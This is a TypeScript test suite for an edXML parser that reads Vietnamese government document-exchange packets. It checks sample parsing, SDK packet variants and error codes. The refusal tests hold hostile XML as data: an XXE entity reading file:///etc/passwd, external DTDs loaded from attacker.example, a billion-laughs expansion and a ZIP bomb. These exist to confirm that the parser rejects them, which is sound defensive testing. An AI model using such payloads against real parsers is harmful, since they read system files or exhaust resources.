// The edXML reader on the Government Office SDK samples, the packet zipped inside them, packets in
// the shapes of other public SDKs (tests/fixtures/edxml/SOURCE.md), and every refusal by its code.
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import { describe, test } from 'node:test';
import { PDFDocument } from 'pdf-lib';
import { parseEdxml, readEdxml, buildDocumentPacket, type EdxmlDocumentInput } from '../../main/core/exchange/edxml';
import type { EdxmlDocument, EdxmlStatus } from '../../common/edxml';

const SAMPLES = join(import.meta.dirname, '..', '..', '..', 'shared', 'domain', 'edxml-samples');
const samplesDir = [SAMPLES, '/work/shared/domain/edxml-samples'].find((d) => { try { return readdirSync(d).length > 0; } catch { return false; } })!;
const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'edxml');
const sample = (n: string) => readFileSync(join(samplesDir, n));
const doc = (p: { packet: unknown }) => p.packet as EdxmlDocument;

const codeOf = async (bytes: Uint8Array | string, limits?: Record<string, number>) => {
  try {
    await parseEdxml(typeof bytes === 'string' ? Buffer.from(bytes) : bytes, limits ? { limits } : {});
    return 'accepted';
  } catch (e) {
    return (e as { code?: string }).code ?? String(e);
  }
};

describe('the Government Office samples', () => {
  test('every sample file reads, without a problem', async () => {
    const files = readdirSync(samplesDir).filter((f) => f.endsWith('.edxml'));
    assert.equal(files.length, 14);
    for (const f of files) {
      const r = await parseEdxml(sample(f));
      assert.equal(r.shape, 'qcvn102', f);
      assert.deepEqual(r.problems, [], f);
      assert.equal(r.packet.kind, f.startsWith('status') ? 'status' : 'document', f);
    }
  });

  test('a new document: header, trace, business, zipped attachment sniffed by its bytes', async () => {
    const p = doc(await parseEdxml(sample('edoc_new.edxml')));
    assert.equal(p.from.organId, '000.00.00.A80');
    assert.equal(p.to[0]!.organId, '28.22.H17');
    assert.deepEqual(p.code, { number: '74fass22', notation: 'VPCP-TTĐT' });
    assert.deepEqual(p.promulgation, { place: 'Hà Nội', date: '2019-01-16' });
    assert.equal(p.documentType.typeName, 'Công văn');
    assert.equal(p.otherInfo.pageAmount, 22);
    assert.equal(p.otherInfo.direction, false);
    assert.deepEqual(p.toPlaces, ['Cac bo va co quan ngang bo', 'Uy ban nhan dan cac tinh, TP']);
    assert.equal(p.steeringType, 1);
    assert.deepEqual(p.trace, [{ organId: '000.00.00.G22', timestamp: '2018-09-28T00:00:00+07:00' }]);
    assert.equal(p.business?.docType, 0);
    assert.equal(p.business?.staff[0]?.staff, 'Nguyễn Thị Ngọc Trâm');
    // Named .doc, declared application/zip: the bytes are a ZIP holding one edXML packet.
    const a = p.attachments[0]!;
    assert.equal(a.name, '1896_QD-TTg_m_294779.doc');
    assert.equal(a.sniffed, 'zip');
    assert.equal(a.size, 270823);
    assert.equal(a.entries?.length, 1);
    assert.equal(a.entries![0]!.sniffed, 'edxml');
    assert.equal(a.entries![0]!.size, 388347);
  });

  test('revocation, update and replacement carry their business blocks', async () => {
    const rev = doc(await parseEdxml(sample('edoc_revocation.edxml')));
    assert.equal(rev.business?.docType, 1);
    assert.equal(rev.responseFor[0]?.documentId, '000.00.04.G14,2012/08/06,267/VPCP-TTĐT');
    assert.equal(rev.to.length, 3);
    const upd = doc(await parseEdxml(sample('edoc_update.edxml')));
    assert.equal(upd.business?.docType, 2);
    assert.deepEqual(upd.business?.documentInfo?.receivers, [{ organId: '000.00.00.H41', receiverType: '0' }, { organId: '000.00.00.H14', receiverType: '1' }]);
    const rep = doc(await parseEdxml(sample('edoc_replacement.edxml')));
    assert.equal(rep.business?.docType, 3);
    assert.equal(rep.business?.replacements.length, 2);
    assert.deepEqual(rep.business?.replacements[0]?.organIds, ['000.00.00.H41', '000.00.00.H14']);
  });

  test('status packets: every code of the samples', async () => {
    const seen: string[] = [];
    for (const f of readdirSync(samplesDir).filter((x) => x.startsWith('status_'))) {
      const s = (await parseEdxml(sample(f))).packet as EdxmlStatus;
      seen.push(s.statusCode);
      assert.equal(f.includes(`_${s.statusCode}.`), true, f);
      assert.ok(s.description);
      assert.equal(s.timestamp, '2015-09-20T11:08:36+07:00');
    }
    assert.deepEqual(seen.sort(), ['01', '02', '03', '04', '05', '06', '13', '15', '16']);
  });

  test('the packet zipped inside a sample (VNPT SDK example): xmldsig Signature, comments, empty ResponseFor, raw PDF', async () => {
    const zip = (await readEdxml(sample('edoc_new.edxml'))).files[0]!.bytes;
    const nameLen = zip.readUInt16LE(26);
    const inner = inflateRawSync(zip.subarray(30 + nameLen + zip.readUInt16LE(28)));
    const r = await parseEdxml(inner);
    const p = doc(r);
    assert.equal(p.from.organId, '14.00.W00');
    assert.equal(p.documentId, '9fbfbad2-f1f8-4256-a2eb-50fb1061cddb');
    assert.deepEqual(p.responseFor, [], 'an empty ResponseFor template refers to nothing');
    assert.equal(p.attachments[0]!.sniffed, 'pdf');
    assert.equal(p.attachments[0]!.pageCount, 2);
    assert.equal(p.otherInfo.pageAmount, 2);
    assert.equal(r.signature?.ns, 'http://www.w3.org/2000/09/xmldsig#');
  });
});

describe('other shapes from public SDKs', () => {
  test('Bkav-style: everything prefixed, OrganInCharge, dd/MM/yyyy and zoned dates, three hops, a PDF named .doc', async () => {
    const p = doc(await parseEdxml(readFileSync(join(FIXTURES, 'bkav-prefixed.edxml'))));
    assert.equal(p.from.organId, '000.00.01.H49', 'codes are upper-cased');
    assert.equal(p.from.organizationInCharge, 'Tỉnh ủy Quảng Ninh');
    assert.equal(p.promulgation.date, '2025-03-05');
    assert.equal(p.dueDate, '2025-03-31');
    assert.deepEqual(p.trace.map((h) => h.timestamp), ['2025-03-05T08:15:00+07:00', '2025-03-05T08:16:10+07:00', '2025-03-05T08:17:00+07:00']);
    assert.equal(p.business?.staff.length, 2);
    assert.deepEqual(p.otherInfo.appendixes, ['Phụ lục I']);
    assert.equal(p.subject, 'Kế hoạch triển khai chuyển đổi số năm 2025 & các năm tiếp theo');
    assert.equal(p.attachments[0]!.declaredType, 'application/msword');
    assert.equal(p.attachments[0]!.sniffed, 'pdf');
    assert.equal(p.attachments[0]!.pageCount, 2);
  });

  test('legacy SOAP (e-doc.vn) with a MIME part', async () => {
    const r = await parseEdxml(readFileSync(join(FIXTURES, 'legacy-soap.mime')));
    assert.equal(r.shape, 'legacy-soap');
    const p = doc(r);
    assert.equal(p.from.organName, 'UBND tỉnh Hà Tĩnh');
    assert.equal(p.promulgation.date, '2016-01-20');
    assert.equal(p.manifest[0]!.contentId, 'cid:412-UBND-VX.pdf');
    assert.equal(p.attachments[0]!.sniffed, 'pdf');
  });

  test('NFD text from legacy systems reads as NFC', async () => {
    const nfd = sample('status_processing_05.edxml').toString('utf8').normalize('NFD');
    const s = (await parseEdxml(Buffer.from(nfd))).packet as EdxmlStatus;
    assert.equal(s.description, 'Đang xử lý văn bản đến');
    assert.equal(s.description, s.description!.normalize('NFC'));
  });
});

describe('refusals, each with its own code', () => {
  const status = sample('status_inbox_01.edxml').toString('utf8');

  test('malformed XML', async () => {
    assert.equal(await codeOf(status.replace('</edXML:Description>', '</edXML:Descr>')), 'EDXML_MALFORMED');
    assert.equal(await codeOf(status.replace('Văn thư -', 'Văn thư & ')), 'EDXML_MALFORMED');
    assert.equal(await codeOf(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e])), 'EDXML_ENCODING');
    assert.equal(await codeOf('<?xml version="1.0" encoding="windows-1258"?><a/>'), 'EDXML_ENCODING');
    assert.equal(await codeOf('<root><x/></root>'), 'EDXML_NOT_EDXML');
  });

  test('DOCTYPE, internal entities, billion laughs, external entities and DTDs', async () => {
    const body = status.replace(/^<\?xml[^>]*>\n/, '');
    assert.equal(await codeOf(`<!DOCTYPE edXML>\n${body}`), 'EDXML_DOCTYPE');
    assert.equal(await codeOf(`<!DOCTYPE edXML [<!ENTITY org "UBND">]>\n${body.replace('UBND Tỉnh', '&org; Tỉnh')}`), 'EDXML_ENTITY_DECLARED');
    const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('');
    assert.equal(await codeOf(`<!DOCTYPE edXML [${lol}]>\n${body.replace('UBND Tỉnh', '&lol9;')}`), 'EDXML_ENTITY_EXPANSION');
    assert.equal(await codeOf(`<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${body.replace('UBND Tỉnh', '&xxe;')}`), 'EDXML_EXTERNAL_ENTITY');
    assert.equal(await codeOf(`<!DOCTYPE edXML SYSTEM "http://attacker.example/x.dtd">\n${body}`), 'EDXML_EXTERNAL_ENTITY');
    assert.equal(await codeOf(`<!DOCTYPE edXML [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>\n${body}`), 'EDXML_EXTERNAL_ENTITY');
    assert.equal(await codeOf(status.replace('UBND Tỉnh', '&nbsp;')), 'EDXML_UNKNOWN_ENTITY');
    // Written inside a comment, it is text, not a DTD.
    assert.equal(await codeOf(status.replace('<edXML:edXMLHeader>', '<edXML:edXMLHeader><!-- <!DOCTYPE x> -->')), 'accepted');
  });

  test('oversized packet and oversized attachment (configurable limits)', async () => {
    const bytes = sample('edoc_new.edxml');
    assert.equal(await codeOf(bytes, { maxPacketBytes: 100_000 }), 'EDXML_TOO_LARGE');
    assert.equal(await codeOf(bytes, { maxAttachmentBytes: 100_000 }), 'EDXML_ATTACHMENT_TOO_LARGE');
    assert.equal(await codeOf(bytes, { maxAttachments: 0 }), 'EDXML_TOO_MANY_ATTACHMENTS');
    assert.equal(await codeOf(bytes), 'accepted');
  });

  test('base64 that does not decode', async () => {
    const t = sample('edoc_new.edxml').toString('utf8').replace('UEsDBBQACAgI', 'UEsDBBQ*CAgI');
    assert.equal(await codeOf(t), 'EDXML_BAD_BASE64');
    const r = await readEdxml(Buffer.from(t));
    assert.deepEqual(r.problems.map((p) => [p.code, p.severity]), [['EDXML_BAD_BASE64', 'error']]);
  });

  test('declared file and page counts that do not match', async () => {
    const t = sample('edoc_new.edxml').toString('utf8');
    const extraRef = t.replace('</edXML:edXMLManifest>', '<edXML:Reference><edXML:ContentId>cid:210</edXML:ContentId><edXML:AttachmentName>phu-luc.pdf</edXML:AttachmentName></edXML:Reference></edXML:edXMLManifest>');
    assert.equal(await codeOf(extraRef), 'EDXML_FILE_COUNT');
    assert.equal(await codeOf(t.replace('<ContentId>cid:209</ContentId>', '<ContentId>cid:999</ContentId>')), 'EDXML_FILE_COUNT');
    const pdf = await PDFDocument.create();
    for (let i = 0; i < 3; i++) pdf.addPage();
    const input: EdxmlDocumentInput = {
      from: { organId: '000.00.01.H49', organizationInCharge: null, organName: 'Tỉnh ủy', organAdd: null, email: null, telephone: null, fax: null, website: null },
      to: [{ organId: '000.00.00.G22', organizationInCharge: null, organName: null, organAdd: null, email: null, telephone: null, fax: null, website: null }],
      documentId: null, code: { number: '1', notation: 'CV/TU' }, promulgation: { place: null, date: '2026-01-02' }, documentType: { type: null, typeDetail: null, typeName: 'Công văn' },
      subject: 'Thử', content: null, signer: { competence: null, position: null, fullName: null }, dueDate: null, toPlaces: [],
      otherInfo: { priority: 0, sphereOfPromulgation: null, typerNotation: null, promulgationAmount: null, pageAmount: 2, direction: null, appendixes: [], secrecy: null },
      responseFor: [], steeringType: null, trace: [], business: null,
      attachments: [{ name: 'cv.pdf', description: null, contentType: 'application/pdf', bytes: await pdf.save() }],
    };
    assert.equal(await codeOf(buildDocumentPacket(input).bytes), 'EDXML_PAGE_COUNT');
    assert.equal(await codeOf(buildDocumentPacket({ ...input, otherInfo: { ...input.otherInfo, pageAmount: 3 } }).bytes), 'accepted');
  });

  test('values the standard does not allow', async () => {
    assert.equal(await codeOf(status.replace('<edXML:StatusCode>01', '<edXML:StatusCode>07')), 'EDXML_BAD_VALUE');
    assert.equal(await codeOf(sample('edoc_new.edxml').toString('utf8').replace('<edXML:BussinessDocType>0', '<edXML:BussinessDocType>9')), 'EDXML_BAD_VALUE');
    assert.equal(await codeOf(status.replace(/<edXML:From>[\s\S]*?<\/edXML:From>/, '')), 'EDXML_MISSING');
    // A date that is no date is a warning (the packet is still read), not a refusal.
    const r = await readEdxml(Buffer.from(status.replace('2015/09/20 11:08:36', '2015/02/30 11:08:36')));
    assert.deepEqual(r.problems.map((p) => [p.code, p.severity]), [['EDXML_BAD_DATE', 'warning']]);
    assert.equal((r.packet as EdxmlStatus).timestamp, null);
  });
});

describe('ZIP attachments', () => {
  /** A one-entry ZIP (deflated), as the axis's senders make them. */
  function zipOf(name: string, content: Buffer, declaredSize = content.length): Buffer {
    const data = deflateRawSync(content);
    const n = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(0x800, 6); local.writeUInt16LE(8, 8);
    local.writeUInt32LE(data.length, 18); local.writeUInt32LE(declaredSize, 22); local.writeUInt16LE(n.length, 26);
    const cd = Buffer.alloc(46);
    cd.writeUInt32LE(0x02014b50, 0); cd.writeUInt16LE(20, 4); cd.writeUInt16LE(20, 6); cd.writeUInt16LE(0x800, 8); cd.writeUInt16LE(8, 10);
    cd.writeUInt32LE(data.length, 20); cd.writeUInt32LE(declaredSize, 24); cd.writeUInt16LE(n.length, 28); cd.writeUInt32LE(0, 42);
    const body = Buffer.concat([local, n, data]);
    const end = Buffer.alloc(22);
    end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10); end.writeUInt32LE(46 + n.length, 12); end.writeUInt32LE(body.length, 16);
    return Buffer.concat([body, cd, n, end]);
  }
  const packetWith = (bytes: Buffer) => buildDocumentPacket({
    from: { organId: '000.00.01.H49', organizationInCharge: null, organName: null, organAdd: null, email: null, telephone: null, fax: null, website: null },
    to: [{ organId: '000.00.00.G22', organizationInCharge: null, organName: null, organAdd: null, email: null, telephone: null, fax: null, website: null }],
    documentId: null, code: { number: null, notation: null }, promulgation: { place: null, date: null }, documentType: { type: null, typeDetail: null, typeName: null },
    subject: null, content: null, signer: { competence: null, position: null, fullName: null }, dueDate: null, toPlaces: [],
    otherInfo: { priority: null, sphereOfPromulgation: null, typerNotation: null, promulgationAmount: null, pageAmount: 1, direction: null, appendixes: [], secrecy: null },
    responseFor: [], steeringType: null, trace: [], business: null, attachments: [{ name: 'van-ban.pdf', description: null, contentType: 'application/pdf', bytes }],
  }).bytes;

  test('a ZIP holding one PDF: entries sniffed, the PDF\'s pages counted against PageAmount', async () => {
    const pdf = await PDFDocument.create();
    pdf.addPage();
    const p = doc(await parseEdxml(packetWith(zipOf('Văn bản.pdf', Buffer.from(await pdf.save())))));
    assert.equal(p.attachments[0]!.sniffed, 'zip');
    assert.deepEqual(p.attachments[0]!.entries!.map((e) => [e.name, e.sniffed]), [['Văn bản.pdf', 'pdf']]);
    assert.equal(p.attachments[0]!.pageCount, 1);
  });

  test('a ZIP bomb stops at the inflate budget; a lying size is a warning, not a crash', async () => {
    const bomb = zipOf('bomb.txt', Buffer.alloc(64 << 20));
    assert.ok(bomb.length < 200_000);
    const r = await parseEdxml(packetWith(bomb), { limits: { maxInflatedBytes: 1 << 20 } });
    assert.deepEqual(doc(r).attachments[0]!.entries, [{ name: 'bomb.txt', size: 64 << 20, sniffed: 'unknown' }]);
    const liar = await readEdxml(packetWith(zipOf('x.txt', Buffer.alloc(4 << 20), 10)));
    assert.deepEqual(liar.problems.map((x) => [x.code, x.severity]), [['EDXML_BAD_ZIP', 'warning']]);
  });
});
